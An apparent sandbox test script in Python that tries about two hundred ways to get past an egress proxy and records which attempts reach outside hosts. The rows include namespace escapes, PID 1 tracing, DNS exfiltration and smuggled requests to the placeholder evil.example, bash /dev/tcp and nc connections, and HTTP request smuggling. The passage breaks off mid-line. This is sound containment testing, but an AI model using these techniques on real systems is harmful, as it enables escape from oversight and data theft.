"""Attempts to get around the proxy, from inside the sandbox. Each row of the table is one attempt.

A row may print and raise what it likes: what counts is what arrives at the hosts outside, which write down what they
receive. EVIL must not arrive at the allowed host either: it stands for another host that shares its address. A row that
prints OPENED has opened a door that should not be there, and one that prints BROKEN has tried nothing.
"""
import base64, concurrent.futures, ctypes, fcntl, json, os, random, shutil, socket, ssl, struct, subprocess, sys, threading, time, urllib.parse, urllib.request

to = json.loads(sys.argv[1])
# Not the number of the listing itself, which is closed by now: a socket of another attempt gets it next.
INHERITED = [int(fd) for fd in os.listdir('/proc/self/fd') if int(fd) > 2 and os.path.exists(f'/proc/self/fd/{fd}')]
HOST, PORT, UDP, PORT6, UDP6 = '127.0.0.2', to['port'], to['udp'], to['port6'], to['udp6']
U, U6, GRANTED, EVIL = f'{HOST}:{PORT}', f'[::1]:{PORT6}', to['granted'], 'evil.example'
GHOST, GPORT = GRANTED.split(':')[0], int(GRANTED.split(':')[1])
proxy = urllib.parse.urlparse(os.environ['http_proxy'])
P, TOKEN = (proxy.hostname, proxy.port), proxy.password
basic = lambda user, password: base64.b64encode(f'{user}:{password}'.encode()).decode()
A = f'Proxy-Authorization: Basic {basic("trimtab", TOKEN)}\r\n'
libc = ctypes.CDLL(None, use_errno=True)
socket.setdefaulttimeout(4)
local = threading.local()
tag = lambda: f'attempt={local.name}'.encode()

# ---- how to try

def tcp(host, port, family=socket.AF_INET, proto=0, before=None):
    s = socket.socket(family, socket.SOCK_STREAM, proto)
    if before: before(s)
    s.connect((host, port) if family == socket.AF_INET else (host, port, 0, 0)); s.sendall(tag()); return s
def udp(host, port, family=socket.AF_INET, proto=0, before=None, connected=False):
    s = socket.socket(family, socket.SOCK_DGRAM, proto)
    if before: before(s)
    at = (host, port) if family == socket.AF_INET else (host, port, 0, 0)
    if connected: s.connect(at); s.send(tag())
    else: s.sendto(tag(), at)
def fastopen(): socket.socket().sendto(tag(), 0x20000000, (HOST, PORT))
def opened(family, kind=socket.SOCK_RAW, proto=0):
    s = socket.socket(family, kind, proto); print('OPENED', local.name, flush=True); s.close()
def raw(proto, packet=b'\x08\0\xf7\xff\0\0\0\0'): socket.socket(socket.AF_INET, socket.SOCK_RAW, proto).sendto(packet, (HOST, 0)); print('OPENED', local.name, flush=True)
def ping(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\x08\0\xf7\xff\0\0\0\0', (HOST, 0))
def netlink(message, proto=0):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, proto); s.bind((0, 0)); s.send(struct.pack('=IHHII', len(message) + 16, *message_head(message)) + message[8:])
def message_head(message): return struct.unpack('=HHI', message[:8]) + (0,)
def route(kind, body): # A request of the routing table that wants an answer.
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0))
    s.send(struct.pack('=IHHII', 16 + len(body), kind, 0x605, 1, 0) + body)
    answer = s.recv(4096)
    if struct.unpack('=i', answer[16:20])[0] == 0: print('OPENED', local.name, flush=True)
    tcp(HOST, PORT)
def unix(path, kind=socket.SOCK_STREAM): s = socket.socket(socket.AF_UNIX, kind); s.connect(path); s.send(tag())
def pair(path, kind):
    one, two = socket.socketpair(socket.AF_UNIX, kind)
    try: one.sendto(tag(), path)
    except OSError: one.connect(path); one.send(tag())
def inherited(act):
    for fd in INHERITED:
        try: s = socket.socket(fileno=fd)
        except OSError: continue
        try: act(s)
        except OSError: pass
def call(number, *arguments): # A system call that must fail.
    result = libc.syscall(number, *arguments)
    if result == 0 and number in (56, 57, 435): os._exit(0)
    if result >= 0: print('OPENED', local.name, flush=True); tcp(HOST, PORT)
def enter(path): fd = os.open(path, os.O_RDONLY); call(308, fd, 0)
def look(*paths): # Files that lead out of the sandbox.
    for path in paths: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    print('OPENED', local.name, flush=True)
def tun():
    fd = os.open('/dev/net/tun', os.O_RDWR); fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH22x', b'tun0', 0x1001)); print('OPENED', local.name, flush=True)
def sysctl(path, value):
    with open(path, 'w') as f: f.write(value)
    tcp(HOST, PORT)
def run(*argv, env=None, stdin=None):
    if not shutil.which(argv[0]): return
    subprocess.run(argv, env=env, input=stdin, capture_output=True, timeout=12)
def clean(**more): return {name: value for name, value in os.environ.items() if 'proxy' not in name.lower()} | more
def sh(line, **env): run('bash', '-c', line, env=dict(os.environ, U=U, N=local.name.replace(' ', '_'), **env))

def exchange(*pieces, wait=0.0):
    s = socket.create_connection(P, 4)
    for piece in pieces:
        s.sendall(piece if isinstance(piece, bytes) else piece.encode()); time.sleep(wait)
    out = b''
    try:
        s.settimeout(1.5)
        while got := s.recv(65536): out += got
    except OSError: pass
    s.close(); return out
def get(authority, more='', host=None, version='1.1', method='GET', scheme='http://', auth=None, body=''):
    return exchange(f'{method} {scheme}{authority}/{local.name.replace(" ", "_")} HTTP/{version}\r\nHost: {host or authority}\r\n{A if auth is None else auth}{more}\r\n{body}')
def connect(authority, after=b'', more='', host=None, method='CONNECT', wait=0.0):
    head = f'{method} {authority} HTTP/1.1\r\nHost: {host or authority}\r\n{A}{more}\r\n'
    return exchange(head, *(after if isinstance(after, list) else [after or tag()]), wait=wait)
text = lambda b: bytes([len(b)]) + b
def socks(address, port=None, command=1, password=None, methods=b'\x01\x02', reserved=0, after=None, version=5):
    login = b'\x01' + text(b'trimtab') + text((TOKEN if password is None else password).encode()) if 2 in methods[1:] else b''
    return exchange(bytes([version]) + methods, login, bytes([version, command, reserved]) + address + struct.pack('>H', PORT if port is None else port), tag() if after is None else after)
name = lambda host: b'\x03' + text(host if isinstance(host, bytes) else host.encode())
four = lambda host: b'\x01' + socket.inet_aton(host)
six = lambda host: b'\x04' + socket.inet_pton(socket.AF_INET6, host)

SECOND = f'GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n{A}\r\n'
THIRD = f'GET http://{U}/ HTTP/1.1\r\nHost: {U}\r\n{A}\r\n'
HIDDEN = f'GET /{EVIL} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n'
def smuggle(more='', body='', method='POST', version='1.1', then=SECOND + THIRD, wait=0.0, host=None):
    head = f'{method} http://{GRANTED}/x HTTP/{version}\r\nHost: {host or GRANTED}\r\n{A}{more}\r\n{body}'
    return exchange(head, then, wait=wait) if wait else exchange(head + then)

def extension(kind, content): return struct.pack('>HH', kind, len(content)) + content
def sni(host, kind=0): entry = bytes([kind]) + struct.pack('>H', len(host)) + host; return extension(0, struct.pack('>H', len(entry)) + entry)
def hello(extensions, random_=b'\x07' * 32):
    body = b'\3\3' + random_ + b'\0' + b'\0\2\x13\1' + b'\1\0' + struct.pack('>H', len(extensions)) + extensions
    return b'\1' + struct.pack('>I', len(body))[1:] + body
def record(content, version=b'\3\1'): return b'\x16' + version + struct.pack('>H', len(content)) + content
EVIL_NAME = sni(EVIL.encode())
def tunnel(*pieces, wait=0.0): return connect(GRANTED, list(pieces), wait=wait)
def chunks(data, size): return [data[i:i + size] for i in range(0, len(data), size)]

def flood(count, piece):
    held = []
    for _ in range(count):
        try: s = socket.create_connection(P, 1); s.sendall(piece); held.append(s)
        except OSError: break
    try: tcp(HOST, PORT)
    except OSError: pass
    get(U); time.sleep(0.3); [s.close() for s in held]
def relay(line): # Another command of the session, which has no rule, is asked to connect.
    s = socket.create_connection(('127.0.0.1', to['relay']), 4); s.sendall((line + '\n').encode()); return s.recv(4096)
def later(seconds, detach):
    if os.fork() == 0:
        if detach: os.setsid()
        if os.fork() == 0:
            [os.close(fd) for fd in range(3) if detach]
            time.sleep(seconds)
            for act in (lambda: tcp(HOST, PORT), lambda: get(U), lambda: udp(HOST, UDP)):
                try: act()
                except OSError: pass
        os._exit(0)
def threads_race(): # The host changes between two looks at the same buffer.
    line = bytearray(f'GET http://{GRANTED}/x HTTP/1.1\r\nHost: {GRANTED}\r\n{A}\r\n'.encode())
    s = socket.create_connection(P, 4)
    for byte in line: s.sendall(bytes([byte]))
    s.sendall(SECOND.encode()); s.settimeout(1)
    try: s.recv(4096)
    except OSError: pass

AF = lambda number, kind=socket.SOCK_DGRAM, proto=0: (lambda: opened(number, kind, proto))
attempts = [
 # straight to the host, past the variables
 ('its address', lambda: tcp(HOST, PORT)),
 ('any address', lambda: tcp('0.0.0.0', PORT)),
 ('loopback', lambda: tcp('127.0.0.1', PORT)),
 ('short address', lambda: tcp('127.2', PORT)),
 ('decimal address', lambda: tcp('2130706434', PORT)),
 ('hexadecimal address', lambda: tcp('0x7f000002', PORT)),
 ('octal address', lambda: tcp('0177.0.0.2', PORT)),
 ('localhost', lambda: tcp('localhost', PORT)),
 ('the name of the machine', lambda: tcp(socket.gethostname(), PORT)),
 ('another address of the device', lambda: tcp('127.255.255.254', PORT)),
 ('bound to the device', lambda: tcp(HOST, PORT, before=lambda s: s.setsockopt(socket.SOL_SOCKET, 25, b'lo\0'))),
 ('bound to its address', lambda: tcp(HOST, PORT, before=lambda s: s.bind((HOST, 0)))),
 ('bound to any foreign address', lambda: tcp(HOST, PORT, before=lambda s: (s.setsockopt(0, 15, 1), s.bind(('127.9.9.9', 0))))),
 ('with a mark', lambda: tcp(HOST, PORT, before=lambda s: s.setsockopt(socket.SOL_SOCKET, 36, 1))),
 ('transparent', lambda: tcp(HOST, PORT, before=lambda s: s.setsockopt(0, 19, 1))),
 ('data with the first packet', fastopen),
 ('multipath', lambda: tcp(HOST, PORT, proto=262)),
 ('in the background of connect', lambda: (lambda s: (s.setblocking(False), s.connect_ex((HOST, PORT)), time.sleep(0.2), s.send(tag())))(socket.socket())),
 ('v6 loopback', lambda: tcp('::1', PORT6, socket.AF_INET6)),
 ('v6 any', lambda: tcp('::', PORT6, socket.AF_INET6)),
 ('v4 in v6', lambda: tcp('::ffff:127.0.0.2', PORT, socket.AF_INET6)),
 ('v4 in v6, as words', lambda: tcp('::ffff:7f00:2', PORT, socket.AF_INET6)),
 ('compatible v4 in v6', lambda: tcp('::127.0.0.2', PORT, socket.AF_INET6)),
 ('v6 with a zone', lambda: tcp('fe80::1%lo', PORT6, socket.AF_INET6)),
 ('v6 with a flow', lambda: socket.socket(socket.AF_INET6).connect(('::1', PORT6, 7, 1))),
 ('v6 multicast of the device', lambda: udp('ff01::1%lo', UDP6, socket.AF_INET6)),
 # datagrams and names
 ('datagram', lambda: udp(HOST, UDP)),
 ('connected datagram', lambda: udp(HOST, UDP, connected=True)),
 ('datagram to all', lambda: udp('127.255.255.255', UDP, before=lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))),
 ('datagram to any', lambda: udp('0.0.0.0', UDP)),
 ('datagram v6', lambda: udp('::1', UDP6, socket.AF_INET6)),
 ('datagram v4 in v6', lambda: udp('::ffff:127.0.0.2', UDP, socket.AF_INET6)),
 ('light datagram', lambda: udp(HOST, UDP, proto=136)),
 ('encapsulated datagram', lambda: udp(HOST, UDP, before=lambda s: s.setsockopt(17, 100, 1))),
 ('segmented datagram', lambda: udp(HOST, UDP, before=lambda s: s.setsockopt(17, 103, 8))),
 ('question to a name server outside', lambda: udp(HOST, UDP, before=lambda s: s.bind(('', 0)))),
 ('data in a name', lambda: socket.getaddrinfo('c2VjcmV0.' + EVIL, 80)),
 ('data in a long name', lambda: socket.getaddrinfo('.'.join(['a' * 60] * 3) + '.' + EVIL, 80)),
 ('address to name', lambda: socket.gethostbyaddr(HOST)),
 ('getent', lambda: run('getent', 'ahosts', EVIL)),
 ('dig at the host', lambda: run('dig', '+tries=1', '+time=1', f'@{HOST}', '-p', str(UDP), EVIL)),
 ('dig over tcp', lambda: run('dig', '+tcp', '+tries=1', '+time=1', f'@{HOST}', '-p', str(PORT), EVIL)),
 ('another resolver', lambda: sh('printf "nameserver 127.0.0.2\n" > resolv; getent hosts ' + EVIL, RES_OPTIONS='attempts:1 timeout:1', LOCALDOMAIN=EVIL)),
 # other kinds of sockets
 ('echo request', ping),
 ('raw icmp', lambda: raw(1)), ('raw ip', lambda: raw(255)), ('raw tcp', lambda: raw(6)), ('raw udp', lambda: raw(17)),
 ('raw with headers', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 17).setsockopt(0, 3, 1)),
 ('raw v6', lambda: opened(socket.AF_INET6, socket.SOCK_RAW, 58)),
 ('sctp', lambda: tcp(HOST, PORT, proto=132)), ('dccp', lambda: (lambda s: s.connect((HOST, PORT)))(socket.socket(socket.AF_INET, 6, 33))),
 ('packets', AF(17, socket.SOCK_RAW, 768)), ('cooked packets', AF(17, socket.SOCK_DGRAM, 768)),
 ('virtual machine', AF(40, socket.SOCK_STREAM)), ('virtual machine, datagram', AF(40)),
 ('bluetooth', AF(31, socket.SOCK_RAW)), ('can', AF(29, socket.SOCK_RAW, 1)), ('crypto', AF(38, 5)), ('xdp', AF(44, socket.SOCK_RAW)),
 ('keys', AF(15, socket.SOCK_RAW, 2)), ('rds', AF(21, 5)), ('smc', AF(43, socket.SOCK_STREAM)), ('tipc', AF(30, 5)), ('qrtr', AF(42)),
 ('kcm', AF(41)), ('pppox', AF(24)), ('nfc', AF(39, socket.SOCK_RAW)), ('phonet', AF(35)), ('ieee802154', AF(36)), ('x25', AF(9, 5)),
 ('appletalk', AF(5)), ('ipx', AF(4)), ('netrom', AF(6, 5)), ('rose', AF(11, 5)), ('ax25', AF(3)), ('llc', AF(26)), ('mctp', AF(45)), ('vsock number by x32', lambda: call(0x40000000 | 41, 40, 1, 0)),
 ('unix by x32', lambda: call(0x40000000 | 41, 1, 1, 0)), ('unix with high bits', lambda: call(41, ctypes.c_ulong((1 << 32) | 1), 1, 0)),
 ('the ring of the kernel', lambda: call(425, 8, ctypes.create_string_buffer(120))),
 ('tunnel device', tun), ('another tunnel device', lambda: look('/dev/vhost-net')), ('ppp device', lambda: look('/dev/ppp')),
 # the routing table and the devices of the network
 ('a route', lambda: route(24, struct.pack('=BBBBBBBBI', 2, 8, 0, 0, 254, 4, 253, 1, 0) + struct.pack('=HHI', 8, 1, 127))),
 ('a device pair', lambda: route(16, struct.pack('=BxHiII', 0, 0, 0, 0, 0) + struct.pack('=HH', 16, 18) + struct.pack('=HH5s3x', 9, 1, b'veth\0'))),
 ('the device into the network of 1', lambda: route(16, struct.pack('=BxHiII', 0, 0, 1, 0, 0) + struct.pack('=HHI', 8, 19, 1))),
 ('an address', lambda: route(20, struct.pack('=BBBBI', 2, 8, 0, 0, 1) + struct.pack('=HH4s', 8, 2, socket.inet_aton('10.9.9.9')))),
 ('a rule', lambda: route(32, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, 0))),
 ('a neighbor', lambda: route(28, struct.pack('=BxHiHBB', 2, 0, 1, 128, 0, 0) + struct.pack('=HH4s', 8, 1, socket.inet_aton('10.9.9.8')))),
 ('a network number', lambda: route(88, struct.pack('=B3x', 0) + struct.pack('=HHI', 8, 1, 7) + struct.pack('=HHI', 8, 2, 1))),
 ('the packet filter', lambda: netlink(struct.pack('=HHI', 0x0a00, 0x605, 1) + b'\2\0\0\0', 12)),
 ('forwarding', lambda: sysctl('/proc/sys/net/ipv4/ip_forward', '1')),
 ('routes of the loopback', lambda: sysctl('/proc/sys/net/ipv4/conf/all/route_localnet', '1')),
 ('ip tool', lambda: run('ip', 'link', 'add', 'v0', 'type', 'veth', 'peer', 'name', 'v1', 'netns', '1')),
 # sockets of the file system and without a name
 ('abstract socket', lambda: unix('\0' + to['abstract'])), ('abstract datagram', lambda: unix('\0' + to['abstract'] + '-datagram', socket.SOCK_DGRAM)),
 ('abstract sequence', lambda: unix('\0' + to['abstract'], socket.SOCK_SEQPACKET)),
 ('socket in the folder', lambda: unix('outside.sock')), ('datagram in the folder', lambda: unix('outside.datagram', socket.SOCK_DGRAM)),
 ('socket outside of the folder', lambda: unix(to['socket'])),
 ('socket by another path', lambda: unix('/proc/self/cwd/outside.sock')),
 ('socket by a link', lambda: (os.path.lexists('link.sock') or os.symlink(to['socket'], 'link.sock'), unix('link.sock'))),
 ('a pair of datagrams', lambda: pair('outside.datagram', socket.SOCK_DGRAM)), ('a pair of raw ones', lambda: pair('outside.datagram', socket.SOCK_RAW)),
 ('a pair of streams', lambda: pair('outside.sock', socket.SOCK_STREAM)), ('a pair of sequences', lambda: pair('outside.sock', socket.SOCK_SEQPACKET)),
 ('a pair to an abstract one', lambda: pair('\0' + to['abstract'] + '-datagram', socket.SOCK_DGRAM)),
 ('curl to a socket', lambda: run('curl', '-s', '-m', '3', '--unix-socket', to['socket'], 'http://x/')),
 ('curl to an abstract one', lambda: run('curl', '-s', '-m', '3', '--abstract-unix-socket', to['abstract'], 'http://x/')),
 # what was inherited, and other processes
 ('inherited, connect', lambda: inherited(lambda s: s.connect((HOST, PORT)))), ('inherited, send', lambda: inherited(lambda s: s.sendto(tag(), (HOST, UDP)))),
 ('inherited, accept', lambda: inherited(lambda s: (s.accept(), print('OPENED', local.name)))),
 ('files of the first process', lambda: look(*[f'/proc/1/fd/{fd}' for fd in range(8)])), ('root of the first process', lambda: look('/proc/1/root')), ('variables of the first process', lambda: look('/proc/1/environ')),
 ('memory of the first process', lambda: os.open('/proc/1/mem', os.O_RDWR) and print('OPENED', local.name)),
 ('network of the first process', lambda: enter('/proc/1/ns/net')), ('network of the parent', lambda: enter(f'/proc/{os.getppid()}/ns/net')),
 ('own network again', lambda: enter('/proc/self/ns/net')), ('user namespace of the parent', lambda: enter(f'/proc/{os.getppid()}/ns/user')), ('mounts of the first process', lambda: enter('/proc/1/ns/mnt')),
 ('by a process descriptor', lambda: call(308, os.pidfd_open(1), 0x40000000)),
 ('a new user', lambda: call(272, 0x10000000)), ('a new network', lambda: call(272, 0x40000000)), ('both', lambda: call(272, 0x50000000)),
 ('clone with a new user', lambda: call(56, 0x10000000 | 17, 0, 0, 0, 0)), ('clone with a new network', lambda: call(56, 0x40000000 | 17, 0, 0, 0, 0)), ('the new clone', lambda: call(435, (ctypes.c_uint64 * 11)(0x50000000, 0, 0, 0, 17), 88)),
 ('trace the first process', lambda: call(101, 16, 1, 0, 0)), ('read its memory', lambda: call(310, 1, 0, 0, 0, 0, 0)), ('take its files', lambda: call(438, os.pidfd_open(1), 0, 0)),
 ('a program in the kernel', lambda: call(321, 5, ctypes.create_string_buffer(128), 128)), ('mount', lambda: call(165, b'none', b'/proc', b'proc', 0, 0)), ('open by handle', lambda: call(304, -100, ctypes.create_string_buffer(32), 0)),
 ('nsenter', lambda: run('nsenter', '-t', '1', '-n', 'true')), ('unshare', lambda: run('unshare', '-Urn', 'curl', '-s', '-m', '2', f'http://{U}/unshare')),
 # programs that do not use the proxy
 ('curl without a proxy', lambda: sh('curl -s -m 3 --noproxy "*" http://$U/$N')), ('curl without variables', lambda: run('curl', '-s', '-m', '3', f'http://{U}/bare', env=clean())),
 ('NO_PROXY', lambda: run('curl', '-s', '-m', '3', f'http://{U}/no', env=dict(os.environ, no_proxy='*', NO_PROXY='*'))), ('NO_PROXY names it', lambda: run('curl', '-s', '-m', '3', f'http://{U}/no', env=dict(os.environ, no_proxy=HOST, NO_PROXY=HOST))),
 ('curl resolves it as localhost', lambda: sh('curl -s -m 3 --resolve localhost:${U#*:}:127.0.0.2 http://localhost:${U#*:}/$N')), ('curl connects it elsewhere', lambda: sh('curl -s -m 3 --connect-to ::127.0.0.2:${U#*:} http://localhost/$N')),
 ('curl with another host behind the granted one', lambda: run('curl', '-s', '-m', '3', '-H', f'Host: {U}', f'http://{GRANTED}/')), ('curl through the granted one', lambda: run('curl', '-s', '-m', '3', '-x', f'http://{GRANTED}', f'http://{U}/', env=clean())),
 ('curl over socks', lambda: run('curl', '-s', '-m', '3', '-x', f'socks5h://trimtab:{TOKEN}@{P[0]}:{P[1]}', f'http://{U}/')), ('curl over socks with a local name', lambda: run('curl', '-s', '-m', '3', '-x', f'socks5://trimtab:{TOKEN}@{P[0]}:{P[1]}', f'http://localhost:{PORT}/', env=clean())),
 ('curl over a tunnel', lambda: run('curl', '-s', '-m', '3', '-p', f'http://{U}/')), ('curl to https', lambda: run('curl', '-sk', '-m', '3', f'https://{U}/')), ('curl ftp', lambda: run('curl', '-s', '-m', '3', f'ftp://{U}/')), ('curl gopher', lambda: run('curl', '-s', '-m', '3', f'gopher://{U}/_x')), ('curl telnet', lambda: run('curl', '-s', '-m', '2', f'telnet://{U}/', stdin=b'x')), ('curl tftp', lambda: run('curl', '-s', '-m', '2', f'tftp://{HOST}:{UDP}/x')),
 ('wget without a proxy', lambda: run('wget', '-q', '-T', '2', '-t', '1', '--no-proxy', '-O', '-', f'http://{U}/')), ('bash', lambda: sh('exec 9<>/dev/tcp/127.0.0.2/${U#*:} && echo $N >&9')), ('bash, datagram', lambda: sh(f'echo $N > /dev/udp/127.0.0.2/{UDP}')),
 ('python without a proxy', lambda: urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f'http://{U}/', timeout=3)), ('perl', lambda: run('perl', '-MIO::Socket::INET', '-e', f'my $s = IO::Socket::INET->new("{U}") or die; print $s "perl"')),
 ('git without a proxy', lambda: run('git', '-c', 'http.proxy=', 'ls-remote', f'http://{U}/x.git', env=clean(GIT_TERMINAL_PROMPT='0'))), ('git protocol', lambda: run('git', 'ls-remote', f'git://{U}/x.git', env=clean())), ('ssh', lambda: run('ssh', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=2', '-p', str(PORT), HOST)), ('openssl', lambda: run('openssl', 's_client', '-connect', U, stdin=b'')), ('nc', lambda: run('nc', '-w', '2', HOST, str(PORT), stdin=b'nc')), ('socat', lambda: run('socat', '-T', '2', '-', f'TCP:{U}', stdin=b'socat')), ('node', lambda: run('node', '-e', f'require("net").connect({PORT},"{HOST}").on("error",()=>0).end("node")')),
 ('a redirect', lambda: run('curl', '-sL', '-m', '5', f'http://{GRANTED}/redirect')), ('a redirect, as another method', lambda: run('curl', '-sL', '-m', '5', '--post302', '-d', 'x', f'http://{GRANTED}/redirect')), ('a redirect in python', lambda: urllib.request.urlopen(f'http://{GRANTED}/redirect', timeout=4)),
 # the authority of a request
 ('plain', lambda: get(U)), ('dot at the end', lambda: get(f'{HOST}.:{PORT}')), ('dots at the end', lambda: get(f'{HOST}..:{PORT}')), ('hexadecimal', lambda: get(f'0x7f000002:{PORT}')), ('parts in hexadecimal', lambda: get(f'0x7f.0.0.0x2:{PORT}')), ('decimal', lambda: get(f'2130706434:{PORT}')), ('short', lambda: get(f'127.2:{PORT}')), ('octal', lambda: get(f'0177.0.0.02:{PORT}')), ('leading zeros', lambda: get(f'127.000.000.002:{PORT}')), ('too many parts', lambda: get(f'127.0.0.2.0:{PORT}')), ('overflow', lambda: get(f'4425673730:{PORT}')),
 ('mapped', lambda: get(f'[::ffff:127.0.0.2]:{PORT}')), ('mapped, as words', lambda: get(f'[::ffff:7f00:2]:{PORT}')), ('compatible', lambda: get(f'[::127.0.0.2]:{PORT}')), ('translated', lambda: get(f'[64:ff9b::7f00:2]:{PORT}')), ('in a 6to4 address', lambda: get(f'[2002:7f00:2::]:{PORT}')), ('v6', lambda: get(U6)), ('long v6', lambda: get(f'[0:0:0:0:0:0:0:1]:{PORT6}')), ('v6 zone', lambda: get(f'[::1%25lo]:{PORT6}')), ('v6 without brackets', lambda: get(f'::1:{PORT6}')), ('any v6', lambda: get(f'[::]:{PORT6}')), ('any v4', lambda: get(f'0.0.0.0:{PORT}')), ('zero', lambda: get(f'0:{PORT}')),
 ('localhost name', lambda: get(f'localhost:{PORT}')), ('name below localhost', lambda: get(f'a.localhost:{PORT}')), ('upper case', lambda: get(f'LOCALHOST:{PORT}')), ('name of the machine', lambda: get(f'{socket.gethostname()}:{PORT}')),
 ('user', lambda: get(f'{GRANTED}@{U}')), ('user and password', lambda: get(f'{GHOST}:{GPORT}@{U}')), ('two users', lambda: get(f'a@{GRANTED}@{U}')), ('user before the granted one', lambda: get(f'{U}@{GRANTED}', host=GRANTED)), ('fragment', lambda: get(f'{GRANTED}#@{U}')), ('query', lambda: get(f'{GRANTED}?@{U}', host=U)), ('backslash', lambda: get(f'{GRANTED}\\@{U}')), ('encoded slash', lambda: get(f'{GRANTED}%2f@{U}')), ('encoded dot', lambda: get(f'127%2e0.0.2:{PORT}')), ('encoded host', lambda: get(f'%31%32%37.0.0.2:{PORT}')), ('comma', lambda: get(f'{GHOST},{U}')), ('semicolon', lambda: get(f'{GHOST};{U}')), ('space', lambda: get(f'{GRANTED} {U}')), ('tab', lambda: get(f'{GRANTED}\t{U}')), ('zero byte', lambda: get(f'{GHOST}\0{U}')), ('line end', lambda: get(f'{GRANTED}\r\n{U}')), ('full width digits', lambda: get(f'１２７.0.0.2:{PORT}')), ('ideographic dot', lambda: get(f'127。0。0。2:{PORT}')), ('soft hyphen', lambda: get(f'local\u00adhost:{PORT}')), ('circled digits', lambda: get(f'①②⑦.0.0.2:{PORT}')), ('punycode', lambda: get(f'xn--127-0:{PORT}')),
 ('granted as a label', lambda: get(f'{GHOST}.{EVIL}:{PORT}')), ('granted at the end', lambda: get(f'{EVIL}.{GHOST}:{PORT}')), ('granted as a prefix', lambda: get(f'{GHOST}0:{PORT}')), ('granted address, other port', lambda: get(f'{GHOST}:{to["other_port"]}')), ('granted address, other port by socks', lambda: socks(four(GHOST), to['other_port'])), ('granted address, other port by a tunnel', lambda: connect(f'{GHOST}:{to["other_port"]}')), ('mapped granted address, other port', lambda: get(f'[::ffff:{GHOST}]:{to["other_port"]}')),
 ('port zero', lambda: get(f'{HOST}:0')), ('port with zeros', lambda: get(f'{HOST}:0{PORT}')), ('port too large', lambda: get(f'{HOST}:{65536 + PORT}')), ('port with a sign', lambda: get(f'{HOST}:+{PORT}')), ('two ports', lambda: get(f'{GRANTED}:{PORT}')), ('no port', lambda: get(f'{HOST}:')), ('port in hexadecimal', lambda: get(f'{HOST}:{PORT:#x}')),
 ('scheme in capitals', lambda: get(U, scheme='HTTP://')), ('https scheme', lambda: get(U, scheme='https://')), ('ftp scheme', lambda: get(U, scheme='ftp://')), ('websocket scheme', lambda: get(U, scheme='ws://')), ('file scheme', lambda: get(U, scheme='file://')), ('no scheme', lambda: get(U, scheme='//')), ('scheme twice', lambda: get(U, scheme='http://http://')), ('path only', lambda: exchange(f'GET / HTTP/1.1\r\nHost: {U}\r\n{A}\r\n')), ('asterisk', lambda: exchange(f'OPTIONS * HTTP/1.1\r\nHost: {U}\r\n{A}\r\n')),
 # headers
 ('host of another', lambda: get(GRANTED, host=U)), ('host of another name', lambda: get(GRANTED, host=EVIL)), ('address of another', lambda: get(U, host=GRANTED)), ('two hosts', lambda: get(GRANTED, f'Host: {EVIL}\r\n')), ('host on two lines', lambda: get(GRANTED, f'X: y\r\n {EVIL}\r\n')), ('host with a space before', lambda: get(GRANTED, f'Host : {EVIL}\r\n')), ('host with a user', lambda: get(GRANTED, host=f'{EVIL}@{GRANTED}')), ('no host', lambda: exchange(f'GET http://{U}/ HTTP/1.1\r\n{A}\r\n')), ('no password', lambda: get(U, auth='')), ('wrong password', lambda: get(GRANTED, f'X-Evil: {EVIL}\r\n', auth=f'Proxy-Authorization: Basic {basic("trimtab", "0" * 32)}\r\n')), ('empty password', lambda: get(GRANTED, f'X-Evil: {EVIL}\r\n', auth=f'Proxy-Authorization: Basic {basic("trimtab", "")}\r\n')), ('two passwords', lambda: get(GRANTED, f'X-Evil: {EVIL}\r\n{A}')), ('bearer', lambda: get(GRANTED, f'X-Evil: {EVIL}\r\n', auth=f'Proxy-Authorization: Bearer {TOKEN}\r\n')), ('password in upper case', lambda: get(GRANTED, f'X-Evil: {EVIL}\r\n', auth=f'Proxy-Authorization: Basic {basic("trimtab", TOKEN.upper() + "x")}\r\n')), ('password of an ended command', lambda: get(GRANTED, f'X-Evil: {EVIL}\r\n', auth=f'Proxy-Authorization: Basic {basic("trimtab", to["ended"])}\r\n')),
 ('huge header', lambda: get(U, 'X: ' + 'a' * 70000 + '\r\n')), ('many headers', lambda: get(U, ''.join(f'X{i}: y\r\n' for i in range(200)))), ('huge line', lambda: get(U + '/' + 'a' * 70000)), ('zero byte in a header', lambda: smuggle(f'X: a\0\r\n')), ('carriage return in a header', lambda: smuggle(f'X: a\rHost: {EVIL}\r\n')), ('line feeds only', lambda: exchange(f'GET http://{GRANTED}/ HTTP/1.1\nHost: {GRANTED}\n{A.strip()}\n\n{SECOND}{THIRD}')), ('line feeds, then another head', lambda: exchange(f'GET http://{GRANTED}/ HTTP/1.1\r\nHost: {GRANTED}\r\n{A}\nGET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n')),
 # what follows a request
 ('a second request', lambda: smuggle(method='GET')), ('a second request, later', lambda: smuggle(method='GET', wait=0.2)), ('kept alive', lambda: smuggle('Connection: keep-alive\r\nProxy-Connection: keep-alive\r\n', method='GET', wait=0.2)), ('length and chunks', lambda: smuggle('Content-Length: 0\r\nTransfer-Encoding: chunked\r\n', '0\r\n\r\n')), ('chunks and length', lambda: smuggle('Transfer-Encoding: chunked\r\nContent-Length: 5\r\n', '0\r\n\r\n')), ('two lengths', lambda: smuggle('Content-Length: 0\r\nContent-Length: 900\r\n')), ('a list of lengths', lambda: smuggle('Content-Length: 0, 900\r\n')), ('signed length', lambda: smuggle('Content-Length: +0\r\n')), ('negative length', lambda: smuggle('Content-Length: -1\r\n')), ('huge length', lambda: smuggle('Content-Length: 18446744073709551616\r\n')), ('length in hexadecimal', lambda: smuggle('Content-Length: 0x400\r\n')), ('a length before the body', lambda: smuggle('Content-Length: 3\r\n', 'abc')), ('chunked, after its end', lambda: smuggle('Transfer-Encoding: chunked\r\n', '3\r\nabc\r\n0\r\n\r\n')), ('chunked twice', lambda: smuggle('Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n', 